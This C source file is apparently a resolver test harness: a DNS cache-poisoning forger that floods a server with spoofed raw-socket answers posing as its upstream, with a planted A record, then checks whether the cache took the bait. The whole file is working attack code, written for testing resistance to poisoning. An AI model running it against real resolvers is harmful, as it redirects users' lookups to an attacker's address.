// SPDX-License-Identifier: LGPL-2.1-or-later
/* A forger who races a name server's upstream, and the clients who would believe him.

       dns_forger SERVER UPSTREAM RATE SECONDS SUFFIX

   For SECONDS, RATE forged replies a second go to the IPv4 address SERVER as if they came from port 53 of UPSTREAM:
   whole and well-formed answers to the very questions that are asked meanwhile, n0.SUFFIX, n1.SUFFIX and so on, with
   the address 203.0.113.66. The forger knows all but what he cannot: the port, the id and the letter case are by
   chance. Meanwhile a window of questions is kept in flight on port 53 of SERVER; at the end all of them are asked
   again, for what the cache has of them.

   The last line of output is "forged N asked N answered N poisoned N"; the exit status is 0 if none was poisoned.
   It needs a raw socket, so it runs as root of a network namespace.
*/
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define HEADER_LEN 12
#define PACKET_MAX 512
#define BATCH      64
#define WINDOW     200 /* questions in flight */
#define GUESSES    100 /* names ahead of the last one asked, that the forger has in mind */
#define PATIENCE_S 5

static const uint8_t evil_record[] = {
    0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, 203, 0, 113, 66,
};

static uint64_t random_state = 88172645463325252u;

static uint32_t random_bits(void)
{
    random_state ^= random_state << 13;
    random_state ^= random_state >> 7;
    random_state ^= random_state << 17;
    return (uint32_t)(random_state >> 32);
}

static double now_s(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

/* nNUMBER.SUFFIX A IN behind the header; returns the length of the message. */
static size_t put_question(uint8_t *message, unsigned number, const char *suffix, bool mixed_case)
{
    char text[200];
    size_t len = HEADER_LEN;
    snprintf(text, sizeof(text), "n%u.%s", number, suffix);
    for (const char *label = text; *label != '\0';) {
        const size_t label_len = strcspn(label, ".");
        message[len++] = (uint8_t)label_len;
        for (size_t i = 0; i < label_len; i++) {
            const bool letter = label[i] >= 'a' && label[i] <= 'z';
            message[len++] = (uint8_t)(letter && mixed_case && random_bits() & 1 ? label[i] - 32 : label[i]);
        }
        label += label_len + (label[label_len] == '.');
    }
    memcpy(message + len, (const uint8_t[]){0, 0, 1, 0, 1}, 5);
    return len + 5;
}

/* --- the forger --- */

struct forger {
    int fd;
    struct sockaddr_in to;
    uint32_t from;
    const char *suffix;
    uint64_t sent;
};

static size_t forge(const struct forger *f, uint8_t *packet, unsigned last_asked)
{
    uint8_t *message = packet + sizeof(struct iphdr) + sizeof(struct udphdr);
    const unsigned back = random_bits() % (WINDOW + GUESSES);
    const unsigned number = last_asked + GUESSES > back ? last_asked + GUESSES - back : 0;

    size_t len = put_question(message, number, f->suffix, true);
    memcpy(message + 2, (const uint8_t[]){0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0}, 10);
    memcpy(message + len, evil_record, sizeof(evil_record));
    len += sizeof(evil_record);
    const uint32_t random = random_bits();
    memcpy(message, &random, 2);

    const struct udphdr udp = {.source = htons(53),
                               .dest = htons((uint16_t)(1024 + random_bits() % (65536 - 1024))),
                               .len = htons((uint16_t)(sizeof(udp) + len))}; /* no checksum */
    const struct iphdr ip = {.version = 4,
                             .ihl = 5,
                             .ttl = 64,
                             .protocol = IPPROTO_UDP,
                             .tot_len = htons((uint16_t)(sizeof(ip) + sizeof(udp) + len)),
                             .saddr = f->from,
                             .daddr = f->to.sin_addr.s_addr};
    memcpy(packet, &ip, sizeof(ip));
    memcpy(packet + sizeof(ip), &udp, sizeof(udp));
    return sizeof(ip) + sizeof(udp) + len;
}

static void forge_batch(struct forger *f, unsigned last_asked)
{
    static uint8_t packets[BATCH][PACKET_MAX];
    struct iovec vectors[BATCH];
    struct mmsghdr headers[BATCH];

    for (unsigned i = 0; i < BATCH; i++) {
        vectors[i] = (struct iovec){packets[i], forge(f, packets[i], last_asked)};
        headers[i] = (struct mmsghdr){
            .msg_hdr = {
                .msg_name = &f->to, .msg_namelen = sizeof(f->to), .msg_iov = &vectors[i], .msg_iovlen = 1}};
    }
    const int sent = sendmmsg(f->fd, headers, BATCH, 0);
    f->sent += sent > 0 ? (uint64_t)sent : 0;
}

/* --- the clients --- */

struct clients {
    int fd;
    const char *suffix;
    unsigned asked, done, answered, poisoned; /* done: answered, or given up */
};

static void ask(struct clients *c, unsigned number)
{
    uint8_t message[PACKET_MAX] = {(uint8_t)(number >> 8), (uint8_t)number, 1, 0, 0, 1};
    (void)!send(c->fd, message, put_question(message, number, c->suffix, false), 0);
}

static void take_answers(struct clients *c)
{
    uint8_t answer[PACKET_MAX];
    ssize_t len;
    while ((len = recv(c->fd, answer, sizeof(answer), MSG_DONTWAIT)) >= HEADER_LEN) {
        c->done++;
        c->answered += (answer[3] & 0x0f) == 0 && answer[7] > 0;
        c->poisoned += memmem(answer, (size_t)len, "\xcb\0\x71\x42", 4) != NULL;
    }
}

static void fill_window(struct clients *c)
{
    while (c->asked - c->done < WINDOW)
        ask(c, c->asked++);
}

/* Waits until so many answers have come, or not for PATIENCE_S. */
static bool wait_for(struct clients *c, unsigned done)
{
    const double give_up = now_s() + PATIENCE_S;
    while (c->done < done && now_s() < give_up) {
        struct pollfd readable = {.fd = c->fd, .events = POLLIN};
        poll(&readable, 1, 100);
        take_answers(c);
    }
    return c->done >= done;
}

/* All that were asked once more, a window at a time. */
static void ask_again(struct clients *c)
{
    c->done = 0;
    for (unsigned next = 0; next < c->asked;) {
        const unsigned end = next + WINDOW < c->asked ? next + WINDOW : c->asked;
        while (next < end)
            ask(c, next++);
        if (!wait_for(c, end))
            return;
    }
}

static void race(struct forger *f, struct clients *c, double rate, double seconds)
{
    const double start = now_s();
    double heard = start, now = start;
    for (; now < start + seconds; now = now_s()) {
        const unsigned before = c->done;
        take_answers(c);
        if (c->done != before)
            heard = now;
        else if (now > heard + PATIENCE_S)
            c->done = c->asked; /* lost, all of them */
        fill_window(c);
        if ((double)f->sent < (now - start) * rate)
            forge_batch(f, c->asked);
    }
}

static int connected_socket(const char *server)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
    const int fd = socket(AF_INET, SOCK_DGRAM, 0), buffer_bytes = 8 << 20;
    inet_pton(AF_INET, server, &to.sin_addr);
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &buffer_bytes, sizeof(buffer_bytes));
    if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) != 0) {
        perror("dns_forger");
        exit(2);
    }
    return fd;
}

int main(int argc, char *argv[])
{
    struct in_addr upstream, server;
    if (argc != 6 || inet_pton(AF_INET, argv[1], &server) != 1 ||
        inet_pton(AF_INET, argv[2], &upstream) != 1) {
        fprintf(stderr, "usage: dns_forger SERVER UPSTREAM RATE SECONDS SUFFIX\n");
        return 2;
    }
    struct forger f = {.fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW),
                       .to = {.sin_family = AF_INET, .sin_addr = server},
                       .from = upstream.s_addr,
                       .suffix = argv[5]};
    if (f.fd < 0) {
        perror("dns_forger: raw socket");
        return 2;
    }
    struct clients c = {.fd = connected_socket(argv[1]), .suffix = argv[5]};
    race(&f, &c, atof(argv[3]), atof(argv[4]));
    wait_for(&c, c.asked);
    const unsigned answered = c.answered;
    ask_again(&c);
    printf("forged %llu asked %u answered %u poisoned %u\n", (unsigned long long)f.sent, c.asked, answered,
           c.poisoned);
    return c.poisoned == 0 ? 0 : 1;
}
